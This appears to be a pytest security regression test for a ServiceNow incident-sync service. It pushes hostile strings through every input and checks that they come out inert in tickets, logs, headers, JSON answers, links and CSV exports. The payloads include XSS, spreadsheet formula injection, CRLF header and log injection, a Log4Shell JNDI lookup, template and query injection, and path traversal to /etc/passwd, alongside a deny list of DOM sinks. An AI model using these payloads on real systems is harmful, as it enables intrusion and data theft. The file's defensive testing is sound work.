"""A second layer: whatever a text can carry, it comes out inert, wherever it comes out.

One table of payloads and one of sinks. A payload is said by an event, a caller, a rule and the
instance itself; each sink says what of it must not be there.
"""

import csv
import html
import io
import json
import re
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any
from urllib.parse import parse_qs, urlsplit

import pytest

from local.servicenow import faults, seed
from tests.conftest import HttpAnswer, _forget, call
from tests.integration.conftest import connect
from tests.integration.events import USER, Queues, error, send
from tests.template import ROOT

if TYPE_CHECKING:
    from collections.abc import Callable

    from local.servicenow import Simulator
    from tests.conftest import Aws

PAYLOADS = [
    "<script>alert('\N{ROCKET}')</script>",
    '"><img src=x onerror=alert(1)>',
    "[code]<b onmouseover=alert(1)>x</b>[/code]",
    "[ CODE ]<i>x</i>[ / Code\t]",
    '=HYPERLINK("https://x.example","see")',
    "\t=1+1",
    "\r\n -1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    'x","=1+1","x',
    "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    'x\n{"level":"ERROR","message":"forged"}',
    "\x1b[31mred\x1b[0m\x07\x9b2J",
    "${jndi:ldap://x.example/a}",
    "{{title}}{{#message}}{{.}}{{/message}}{{{details}}}",
    "{{=<% %>=}}<%message%>",
    "javascript:gs.getUser().getName()",
    "![x](https://x.example/?leak) [x](javascript:alert(1))",
    "x^ORactive=true^EQ^NQsys_id!=x",
    "../../../etc/passwd",
    "\u202egnp.exe\u2066\u2028\u2029\ufeff",
    "Z" + "\u0301" * 200,
    "\U000e0041\U0010ffff\ufffe",
]


@dataclass
class Trace:
    """Where a payload has come out.

    Attributes:
        payload: what was said.
        rows: the tickets in ServiceNow.
        answers: of the API.
        lines: of the functions' logs.
        table: the audit trail as CSV.
    """

    payload: str
    rows: list[dict[str, Any]] = field(default_factory=list)
    answers: list[HttpAnswer] = field(default_factory=list)
    lines: list[str] = field(default_factory=list)
    table: str = ""


def live(
    payload: str, aws: "Aws", simulator: "Simulator", capsys: pytest.CaptureFixture[str]
) -> Trace:
    """Let an event, a caller, a rule and the instance say a payload."""
    trace = Trace(payload)
    connect(simulator, seed.INTEGRATION_USER, USER)

    def ask(function: str, body: Any = ..., **options: Any) -> HttpAnswer:
        answer = call(function, body, user_id=USER, **options)
        trace.answers.append(answer)
        return answer

    rules = {
        "rules": [{"name": "all", "then": {"columns": {"subcategory": "{{message}}"}}}],
        "errors": {"description": "{{message}} {{details}} {{link}}"},
    }
    assert ask("update_rules", rules).status == 200
    ask("update_rules", {"errors": {"short_description": payload}})
    assert ask("update_rules", rules).status == 200
    _forget()
    said: dict[str, Any] = dict.fromkeys(("message", "title", "details", "link"), payload)
    send("error", error(**said, service=payload, labels={"env": payload, payload[:20]: "x"}))
    send("error", error(900, **said, service=payload))

    new = {"short_description": payload, "description": payload, "work_notes": payload}
    made = ask("create_incident", new)
    ask("create_incident", {"short_description": "x", "assignment_group": payload})
    ask("create_incident", {"short_description": "x", "fields": {payload: payload}})
    key = {"idempotency-key": payload, "if-match": payload, "x-request-id": payload}
    ask("create_incident", {"short_description": "x"}, headers=key)
    ask("update_rules", {}, headers=key)
    ask("search_incidents", query={"short_description": payload, "cursor": payload})
    ask("get_activity", query={"cursor": payload, "action": payload})
    ask("get_incident", path={"id": payload})
    ask("create_config", {"instance_url": payload, "username": payload, "password": payload})
    ask("delete_webhook", path={"id": payload})
    simulator.faults.add(faults.error(400, payload, payload, method="POST"))
    ask("create_incident", {"short_description": "x"})
    if made.status == 201:
        row = simulator.instance.find("incident", made.json["sys_id"])
        assert row is not None
        row["number"] = row["category"] = payload
        ask("get_incident", path={"id": made.json["sys_id"]})
    trace.rows = simulator.instance.records("incident")
    table = call("get_activity", user_id=USER, query={"format": "csv"})
    trace.answers += [call("get_activity", user_id=USER, query={"limit": "100"})]
    trace.table = table.text
    trace.lines = capsys.readouterr().out.splitlines()
    return trace


# ---- sinks: each returns what is wrong


# ServiceNow takes it with nothing within the brackets.
CODE = re.compile(r"\[/?code\]", re.IGNORECASE)
OF_EVENTS = "correlation_display"


def in_tickets(trace: Trace) -> "list[Any]":
    """No event's text is HTML to ServiceNow, code that it runs, or a template to us."""
    own = [row for row in trace.rows if row.get(OF_EVENTS)]
    texts = [
        text
        for row in own
        for name in ("short_description", "description", "subcategory", "work_notes", "close_notes")
        if isinstance(text := row.get(name), str)
    ]
    wrong: list[Any] = [text for text in texts if CODE.search(text)]
    if "{{" in trace.payload and not any(trace.payload in text for text in texts):
        wrong.append(("not as it was said", texts))
    return wrong or ([] if own else ["no event became a ticket"])


def in_columns(trace: Trace) -> "list[Any]":
    """No text that was said reaches a column that decides who acts, or a query."""
    return [
        row
        for row in trace.rows
        for name in ("assignment_group", "assigned_to", "caller_id", "state", "sys_id")
        if trace.payload in str(row.get(name, ""))
    ]


def in_logs(trace: Trace) -> "list[Any]":
    """Each line is one JSON object of ours, and no byte of it steers a terminal."""
    wrong: list[Any] = []
    for line in trace.lines:
        try:
            document = json.loads(line)
        except ValueError:
            wrong.append(line)
            continue
        if document.get("message") == "forged" or not line.isascii() or not line.isprintable():
            wrong.append(line)
    return wrong or ([] if trace.lines else ["nothing was logged"])


def in_headers(trace: Trace) -> "list[Any]":
    """No header carries what was said, or a line that it broke."""
    return [
        (name, value)
        for answer in trace.answers
        for name, value in answer.headers.items()
        if not str(value).isprintable()
        or not str(value).isascii()
        or "set-cookie" in name
        or trace.payload.strip() in str(value)
    ]


def in_answers(trace: Trace) -> "list[Any]":
    """JSON that no browser takes for a page, and never a failure of ours."""
    wrong: list[Any] = []
    for answer in trace.answers:
        kind = answer.headers.get("content-type", "")
        if answer.status == 204:
            continue
        if answer.status == 500 or "json" not in kind:
            wrong.append((answer.status, kind, answer.text))
        if answer.headers.get("x-content-type-options") != "nosniff":
            wrong.append(answer.headers)
        json.loads(answer.text)
    return wrong


def in_urls(trace: Trace) -> "list[Any]":
    """Each link leads to the instance, with one record in it."""
    wrong: list[Any] = []
    documents = [json.loads(answer.text) for answer in trace.answers if answer.text]
    for url in _values(documents, "url"):
        parts = urlsplit(url)
        if url and (
            parts.scheme != "https"
            or parts.hostname != "localhost"
            or set(parse_qs(parts.query)) != {"uri"}
            or html.escape(url) != url.replace("&", "&amp;")
            or not url.isascii()
        ):
            wrong.append(url)
    return wrong


def in_csv(trace: Trace) -> "list[Any]":
    """As many cells in each line as columns, and no cell that a spreadsheet runs."""
    lines = list(csv.reader(io.StringIO(trace.table, newline=""), strict=True))
    cells = [cell for line in lines for cell in line]
    wrong: list[Any] = [line for line in lines if len(line) != len(lines[0])]
    wrong += [cell for cell in cells if re.match(r"\s*[=+\-@|%＝＋－＠]", cell)]  # noqa: RUF001
    wrong += [cell for cell in cells if not cell.isprintable()]
    return wrong or ([] if len(lines) > 5 else ["the trail is empty"])


def _values(document: Any, name: str) -> "list[Any]":
    if isinstance(document, dict):
        own = [document[name]] if isinstance(document.get(name), str) else []
        return own + [found for part in document.values() for found in _values(part, name)]
    if isinstance(document, list):
        return [found for part in document for found in _values(part, name)]
    return []


SINKS: "list[Callable[[Trace], list[Any]]]" = [
    in_tickets, in_columns, in_logs, in_headers, in_answers, in_urls, in_csv,
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda text: ascii(text)[1:25])
def test_a_hostile_text_is_inert(
    aws: "Aws",
    simulator: "Simulator",
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    payload: str,
) -> None:
    """In tickets, columns, logs, headers, answers, links and tables."""
    Queues(monkeypatch)
    trace = live(payload, aws, simulator, capsys)
    for sink in SINKS:
        assert sink(trace) == [], sink.__name__


def test_the_pages_put_no_text_into_a_document_as_markup() -> None:
    """Texts become text nodes, and links lead where the instance is: no sink of markup is used."""
    for file in (ROOT / "layers/actionsync/actionsync/pages").glob("*.js"):
        script = file.read_text()
        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(",
                     "Function(", "srcdoc", 'setAttribute("on'):  # fmt: skip
            assert sink not in script, (file.name, sink)
